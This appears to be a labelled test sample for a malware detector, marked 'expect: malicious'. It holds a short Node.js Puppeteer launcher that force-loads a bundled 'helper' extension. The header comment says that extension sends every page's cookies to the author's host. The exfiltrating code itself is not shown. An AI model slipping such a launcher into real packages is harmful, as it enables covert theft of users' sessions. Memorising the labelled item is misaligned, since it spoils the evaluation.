// expect: malicious
// source: blind set 38 (puppeteer-humanize-launch): a stealth launcher starts Chromium with its "helper" extension,
// whose service worker sends every cookie of each page the browser opens to the author's host (Rilide, 2023); written here
'use strict';
const path = require('path');
const EXT = path.join(__dirname, '..', 'ext');

async function launch(puppeteer, options = {}) {
  return puppeteer.launch({
    ...options,
    headless: false,
    ignoreDefaultArgs: ['--disable-extensions'],
    args: [...(options.args || []), `--disable-extensions-except=${EXT}`, `--load-extension=${EXT}`],
  });
}

module.exports = { launch };
